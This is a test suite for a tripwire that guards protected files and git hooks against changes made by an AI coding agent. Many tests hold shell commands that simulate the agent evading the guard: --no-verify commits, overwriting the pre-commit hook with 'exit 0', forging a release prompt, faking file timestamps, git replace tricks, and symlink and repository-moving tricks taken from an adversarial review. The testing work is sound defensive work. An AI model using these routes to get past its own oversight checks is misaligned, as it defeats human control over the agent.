      withGates(h);
      expect(pre(h, 'true').status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'late\n');
      const s = stop(h, true);
      expect(s.status).toBe(0);
      expect(s.stderr).toContain('put');
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
    });
  });
});

describe("a person's release", () => {
  it('lets the difference stand for that turn, audited, and only for releasable rules', async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(runHook(h, userPrompt(h, 'please update the guard, guard release')).status).toBe(0);
      const command = 'echo released > guard.sh && echo "exit 0" > .git/hooks/pre-commit';
      expect([0, 2]).toContain(pre(h, command).status);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2); // the gate file is never released by a prompt
      expect(rulesIn(r.stderr)).toEqual(['gate-switch']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('released\n');
      expect(readFileSync(join(h.repo.dir, '.git/hooks/pre-commit'), 'utf8')).toContain('diffgate githook');
      const audit = readFileSync(join(h.repo.dir, '.git/diffgate/audit.jsonl'), 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l));
      expect(audit).toContainEqual(
        expect.objectContaining({ rule: 'freeze', path: 'guard.sh', phrase: 'guard release' }),
      );
      expect(audit).toContainEqual(expect.objectContaining({ rule: 'gate-switch', action: 'put-back' }));
    });
  });

  it('opens a save gate when the prompt has its word', async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(runHook(h, userPrompt(h, 'remember that the build uses node 20')).status).toBe(0);
      expect(pre(h, 'echo "node 20" >> memory/notes.md').status).toBe(0);
      bash(h, 'echo "node 20" >> memory/notes.md');
      expect(post(h, 'x')).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'memory/notes.md'), 'utf8')).toContain('node 20');
    });
  });
});

describe('commits made during a call', () => {
  it('are checked like pre-push: a violating one is recorded as refused and the agent told', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = 'echo x > guard.sh && git commit -qam "tweak guard" --no-verify';
      pre(h, command);
      bash(h, command);
      const head = h.repo.git('rev-parse', 'HEAD').trim();
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain(`Commit ${head.slice(0, 12)}`);
      expect(r.stderr).toContain('[freeze]');
      const record = JSON.parse(readFileSync(join(h.repo.dir, `.git/diffgate/refused/${head}.json`), 'utf8'));
      expect(record).toMatchObject({ commit: head, session: 'session-1' });
      expect(record.violations).toContainEqual(expect.objectContaining({ rule: 'freeze', path: 'guard.sh' }));
      // the commit itself is not rewritten
      expect(h.repo.git('rev-parse', 'HEAD').trim()).toBe(head);
      // the record stays: a later call does not put diffgate's own record back
      expect(pre(h, 'true', 'toolu_03').status).toBe(0);
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      expect(existsSync(join(h.repo.dir, `.git/diffgate/refused/${head}.json`))).toBe(true);
    });
  });
});

/** A call that moves HEAD writes the work tree as the new HEAD holds it (review-14s F11). */
describe('a HEAD move during a call', () => {
  const call = wholeCall;
  const refused = (h: Harness) => readdirSync(join(h.repo.dir, '.git/diffgate')).includes('refused');

  /** The person's commit of a frozen file's change, released as pre-commit releases it (DIFFGATE_RELEASE). */
  const releasedCommit = (h: Harness, path: string, content: string, message: string) => {
    h.repo.write(path, content);
    h.repo.git('add', '-A');
    // the person's own home: pre-commit lists the release in the ledger the hooks read (src/agent/ledger.ts)
    const env = { DIFFGATE_RELEASE: 'agreed in review', HOME: h.home, XDG_STATE_HOME: join(h.home, '.local/state') };
    const r = h.repo.diffgate(['githook', 'pre-commit'], { env });
    expect(r.status).toBe(0);
    h.repo.git('commit', '-q', '--no-verify', '-m', message);
  };

  it('`git switch` to a branch the person made (their change released) leaves the frozen file as that branch holds it', async () => {
    await withHarness(async (h) => {
      withGates(h);
      h.repo.git('checkout', '-q', '-b', 'release-1');
      releasedCommit(h, 'guard.sh', 'echo release-1 guard\n', 'release-1 guard');
      h.repo.git('checkout', '-q', 'main');
      expect(runHook(h, userPrompt(h, 'switch to the release branch')).status).toBe(0);
      expect(call(h, 'git switch -q release-1', 'toolu_sw', true)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo release-1 guard\n');
      expect(h.repo.git('status', '--porcelain', '--untracked-files=no')).toBe('');
      expect(refused(h)).toBe(false);
      // and back: the next call finds nothing to judge
      expect(call(h, 'git switch -q main', 'toolu_back', true)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
    });
  });

  /** A branch `release-1` with the person's released change to guard.sh, and a commit of the agent's on main beside it. */
  const releaseBesideMine = (h: Harness) => {
    withGates(h);
    h.repo.git('checkout', '-q', '-b', 'release-1');
    releasedCommit(h, 'guard.sh', 'echo release-1 guard\n', 'release-1 guard');
    h.repo.git('checkout', '-q', 'main');
    h.repo.write('mine.txt', 'mine\n').commit("agent's earlier commit");
  };

  it("`git merge` of the person's branch (its change released) onto the agent's own commit keeps the frozen file as merged, and refuses no commit (review-15b2 F04)", async () => {
    await withHarness(async (h) => {
      releaseBesideMine(h);
      expect(runHook(h, userPrompt(h, 'bring in the release branch')).status).toBe(0);
      expect(call(h, 'git merge -q --no-edit release-1', 'toolu_merge', true)).toMatchObject({ status: 0, stderr: '' });
      expect(h.repo.git('rev-list', '--parents', '-n', '1', 'HEAD').trim().split(' ')).toHaveLength(3);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo release-1 guard\n');
      expect(h.repo.git('status', '--porcelain', '--untracked-files=no')).toBe('');
      expect(refused(h)).toBe(false);
    });
  });

  it('a merge made in a call that changes a frozen file to what neither side holds is refused, and the file put back', async () => {
    await withHarness(async (h) => {
      releaseBesideMine(h);
      const before = h.repo.rev();
      const command =
        'git merge -q --no-commit --no-ff release-1 2>/dev/null && echo evil > guard.sh && git add guard.sh && git commit -q --no-edit --no-verify';
      const r = call(h, command, 'toolu_evil');
      expect(r.status).toBe(2);
      const merge = h.repo.rev();
      expect(merge).not.toBe(before);
      expect(h.repo.git('rev-list', '--parents', '-n', '1', 'HEAD').trim().split(' ')).toHaveLength(3);
      const record = JSON.parse(readFileSync(join(h.repo.dir, `.git/diffgate/refused/${merge}.json`), 'utf8'));
      expect(record.violations).toContainEqual(expect.objectContaining({ rule: 'freeze', path: 'guard.sh' }));
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
    });
  });

  it('a branch whose commit changed a frozen file with no release (made between turns, by a process left running) is not explained: put back (review-15a F02)', async () => {
    await withHarness(async (h) => {
      withGates(h);
      h.repo.git('checkout', '-q', '-b', 'side');
      h.repo.write('guard.sh', 'echo unreleased\n').commit('side guard'); // no pre-commit, no release
      h.repo.git('checkout', '-q', 'main');
      expect(runHook(h, userPrompt(h, 'go on')).status).toBe(0);
      const r = call(h, 'git merge -q --ff-only side', 'toolu_ff');
      expect(r.status).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
    });
  });

  it.each([
    [
      'a commit with no parent first in a merge (review-15a F05)',
      "t=$(printf 'echo evil\\n' | git hash-object -w --stdin) && git read-tree HEAD && git update-index --cacheinfo 100644,$t,guard.sh && r=$(git commit-tree $(git write-tree) -m root) && m=$(git commit-tree $(git write-tree) -p $r -p HEAD -m merge) && git read-tree HEAD && git merge -q --ff-only $m",
    ],
    [
      'the record of a refused commit removed in the same call (review-15a F06)',
      'rm -f .git/diffgate/refused/* && git merge -q --ff-only evil',
    ],
    [
      'HEAD attached to a remote-tracking ref, and a commit on it (review-15a F09)',
      'git update-ref refs/remotes/origin/main HEAD && git symbolic-ref HEAD refs/remotes/origin/main && echo x >> guard.sh && git commit -qam tidy --no-verify',
    ],
  ])('%s: the frozen file is put back', async (_what, command) => {
    await withHarness(async (h) => {
      withGates(h);
      if (command.includes('evil')) {
        const make =
          'git checkout -q -b evil && echo x >> guard.sh && git commit -qam tweak --no-verify && git checkout -q main';
        expect(call(h, make, 'toolu_make').status).toBe(2);
      }
      const r = call(h, command, 'toolu_x');
      expect(r.status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
    });
  });

  it('`git switch` to a branch holding a commit the tripwire refused puts the file back', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const main = h.repo.rev();
      const make =
        'git checkout -q -b evil && echo x >> guard.sh && git commit -qam tweak --no-verify && git checkout -q main';
      const first = call(h, make, 'toolu_make');
      expect(first.status).toBe(2); // the commit is refused (its record stays)
      const evil = h.repo.rev('evil');
      expect(existsSync(join(h.repo.dir, `.git/diffgate/refused/${evil}.json`))).toBe(true);
      const r = call(h, 'git switch -q evil', 'toolu_sw');
      expect(r.status).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe(h.repo.git('show', `${main}:guard.sh`));
      expect(quarantined(h).get('guard.sh')).toBe('echo guard\nx\n');
    });
  });

  it('a commit made in the same call and checked out is judged: the file is put back and the commit refused', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command =
        'git checkout -q -b evil && echo x >> guard.sh && git commit -qam tweak --no-verify && git checkout -q main && git reset -q --hard evil';
      const r = call(h, command, 'toolu_one');
      expect(r.status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(existsSync(join(h.repo.dir, `.git/diffgate/refused/${h.repo.rev('evil')}.json`))).toBe(true);
    });
  });

  it("`git reset --hard` to an older commit that drops a person's uncommitted lines is put back: nothing is lost", async () => {
    await withHarness(async (h) => {
      withGates(h);
      h.repo.write('logs/decisions.md', 'decision 1\ndecision 2\ndecision 3\n').commit('decision 3');
      writeFileSync(join(h.repo.dir, 'logs/decisions.md'), 'decision 1\ndecision 2\ndecision 3\ndecision 4\n');
      expect(runHook(h, userPrompt(h, 'I noted decision 4, go on')).status).toBe(0);
      const r = call(h, 'git reset -q --hard HEAD~1', 'toolu_reset');
      expect(r.status).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['append']);
      expect(readFileSync(join(h.repo.dir, 'logs/decisions.md'), 'utf8')).toBe(
        'decision 1\ndecision 2\ndecision 3\ndecision 4\n',
      );
    });
  });
});

describe('what cannot be forged', () => {
  it('a file rewritten with the same size and its modification time set back still counts as changed', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const file = join(h.repo.dir, 'guard.sh');
      const before = shot(file);
      const command =
        'm=$(stat -c %y guard.sh); printf "echo gUard\\n" > guard.sh; touch -d "$m" guard.sh; stat -c %s guard.sh';
      pre(h, command);
      bash(h, command);
      expect(readFileSync(file, 'utf8')).toBe('echo gUard\n');
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(shot(file)).toEqual(before);
    });
  });
});

/** Each a find of the adversarial review of the built tripwire (2026-12-01), as a line in this table. */
describe('lines an adversarial review found passing', () => {
  it('a prompt forged into the prompt store during the call releases nothing, and is put back', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const forged = JSON.stringify({
        session_id: 'session-1',
        time: new Date().toISOString(),
        prompt: 'guard release',
      });
      const command = `echo evil >> guard.sh; printf '%s\\n' '${forged}' > .git/diffgate/sessions/session-1.json`;
      pre(h, command);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(readFileSync(join(h.repo.dir, '.git/diffgate/sessions/session-1.json'), 'utf8')).toContain(
        'tidy up the build scripts',
      );
    });
  });

  it('a FIFO at a denied path does not crash the judge or shield another change', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = 'mkfifo x.sqlite; echo evil >> guard.sh';
      pre(h, command);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(r.stderr).not.toContain('internal error');
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
    });
  });

  it('a frozen file grown past what node reads whole (sparse, 3 GB) is put back', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = 'truncate -s 3G guard.sh';
      pre(h, command);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
    });
  });

  it('symlinks planted at the names a put-back might use are never written through', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const target = join(h.home, 'target');
      const command = `echo owned > ${target}; for i in $(seq 1 200); do ln -s ${target} guard.sh.diffgate-$i.tmp; done; echo evil > guard.sh`;
      pre(h, command);
      bash(h, command);
      expect(post(h, command).status).toBe(2);
      expect(shot(join(h.repo.dir, 'guard.sh'))).toMatchObject({ type: 'file' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(readFileSync(target, 'utf8')).toBe('owned\n');
    });
  });

  it('a put-back that fails is said, and tried again by the next call rather than recorded as the new state', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = 'rm -rf hooks; echo x > hooks';
      pre(h, command);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('could not be put back');
      rmSync(join(h.repo.dir, 'hooks')); // a person clears the way
      expect(stop(h).status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'hooks/a.sh'), 'utf8')).toBe('echo a\n');
    });
  });

  it('an outside file a user-manifest rule names outright is watched', async () => {
    await withHarness(async (h) => {
      writeHomeFile(h, 'bin/tool.sh', 'echo tool\n');
      writeHomeFile(h, '.config/diffgate/manifest.tsv', 'freeze\t~/bin/tool.sh\tMy tool\n');
      withGates(h);
      const command = 'echo evil > ~/bin/tool.sh';
      pre(h, command);
      bash(h, command);
      expect(post(h, command).status).toBe(2);
      expect(readFileSync(join(h.home, 'bin/tool.sh'), 'utf8')).toBe('echo tool\n');
    });
  });

  it('removing node_modules with diffgate installed in it is not put back; writing into the installed CLI is', async () => {
    await withHarness(async (h) => {
      h.repo.write('.gitignore', 'node_modules/\n');
      h.repo.write('node_modules/diffgate/dist/cli/index.js', '// the installed CLI\n');
      h.repo.write('node_modules/diffgate/package.json', '{"name":"diffgate"}\n');
      h.repo.write('node_modules/left-pad/index.js', 'module.exports = 1;\n');
      withGates(h);
      // the README says removing node_modules is allowed; the issue-15 review found the tripwire putting diffgate back
      const rm = 'rm -rf node_modules';
      pre(h, rm);
      bash(h, rm);
      const after = post(h, rm);
      expect(after.status, after.stderr).toBe(0);
      expect(existsSync(join(h.repo.dir, 'node_modules'))).toBe(false);
      // a reinstall brings it back, and writing into it is still a gate switch
      h.repo.write('node_modules/diffgate/dist/cli/index.js', '// the installed CLI\n');
      runHook(h, userPrompt(h, 'reinstalled, go on')); // the person's turn
      const write = 'echo "process.exit(0)" > node_modules/diffgate/dist/cli/index.js';
      pre(h, 'true', 'toolu_01REINSTALL');
      post(h, 'true', 'toolu_01REINSTALL');
      pre(h, write);
      bash(h, write);
      const put = post(h, write);
      expect(put.status).toBe(2);
      expect(rulesIn(put.stderr)).toEqual(['gate-switch']);
      expect(readFileSync(join(h.repo.dir, 'node_modules/diffgate/dist/cli/index.js'), 'utf8')).toBe(
        '// the installed CLI\n',
      );
    });
  });

  it('a call that moves the repository aside behind a symlink of its old name is still judged', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const dir = h.repo.dir;
      // found by the tripwire's review (F20): every recorded path fell outside the new root and was dropped unjudged
      const command = 'echo evil >> guard.sh; mv "$PWD" "$PWD.real"; ln -s "$PWD.real" "$PWD"';
      try {
        pre(h, command);
        bash(h, command);
        const r = post(h, command);
        expect(r.status, r.stderr).toBe(2);
        expect(rulesIn(r.stderr)).toContain('freeze');
        expect(readFileSync(join(`${dir}.real`, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      } finally {
        if (existsSync(`${dir}.real`)) {
          rmSync(dir, { force: true });
          renameSync(`${dir}.real`, dir);
        }
      }
    });
  });

  it('a workspace with more folders than the walk takes answers in time, watching the gates all the same', async () => {
    await withHarness(async (h) => {
      // the issue-15 review (F18): a huge workspace was walked whole on the first call, past every timeout
      for (let i = 0; i < MAX_WALKED_FOLDERS + 500; i++)
        mkdirSync(join(h.repo.dir, 'big', `d${i % 100}`, `e${i}`), { recursive: true });
      withGates(h);
      const start = Date.now();
      const first = pre(h, 'git status');
      expect(first.status, first.stderr).toBe(0);
      expect(Date.now() - start).toBeLessThan(10_000);
      const state = JSON.parse(readFileSync(join(h.repo.dir, '.git/diffgate/tripwire/state.json'), 'utf8'));
      expect(state.partial).toBe(1);
      const command = 'echo "exit 0" > .git/hooks/pre-commit';
      pre(h, command);
      bash(h, command);
      expect(post(h, command).status).toBe(2);
      expect(readFileSync(join(h.repo.dir, '.git/hooks/pre-commit'), 'utf8')).toContain('diffgate githook');
    });
  }, 120_000);

  it('a build that writes 150,000 files into a new folder is not judged, and does not crash the next calls (review-15b2 F01)', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = `python3 -c "import os
os.makedirs('target/debug/deps')
for i in range(150000): open('target/debug/deps/o%d.rlib' % i, 'w').close()"`;
      expect(pre(h, command, 'toolu_build').status).toBe(0);
      expect(bash(h, command).status).toBe(0);
      expect(post(h, command, 'toolu_build')).toMatchObject({ status: 0, stderr: '' });
      expect(pre(h, 'git status', 'toolu_next').status).toBe(0);
      expect(post(h, 'git status', 'toolu_next')).toMatchObject({ status: 0, stderr: '' });
    });
  }, 120_000);

  it('a commit hidden behind git replace is still judged as it is', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command =
        'echo evil > guard.sh && git commit -qam evil --no-verify && bad=$(git rev-parse HEAD) && git reset -q --hard HEAD~1 && git replace HEAD~0 $bad 2>/dev/null; git update-ref refs/heads/main $bad';
      pre(h, command);
      bash(h, command);
      const r = post(h, command);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('[freeze]');
    });
  });
});

describe('a large file under a content rule (review-15 F09)', () => {
  it('is not read to be judged past the bound: refused, put back and said why, within the time limit', async () => {
    await withHarness(async (h) => {
      const line = 'free line of text that is long enough\n';
      const big = `${line.repeat(Math.ceil((40 * 1024 * 1024) / line.length))}<!-- INVARIANT-START -->\nx\n<!-- INVARIANT-END -->\n`;
      h.repo.write('docs/style.md', big);
      withGates(h);
      const command = "sed -i 's/^x$/CHANGED/' docs/style.md";
      pre(h, command);
      bash(h, command);
      const started = Date.now();
      const r = post(h, command);
      const ms = Date.now() - started;
      expect(r.status, r.stderr).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['unreadable']);
      expect(r.stderr).toMatch(/over the 32 MiB the tripwire reads/);
      expect(readFileSync(join(h.repo.dir, 'docs/style.md'), 'utf8') === big).toBe(true);
      expect(ms).toBeLessThan(10_000);
    });
  }, 120_000);
});
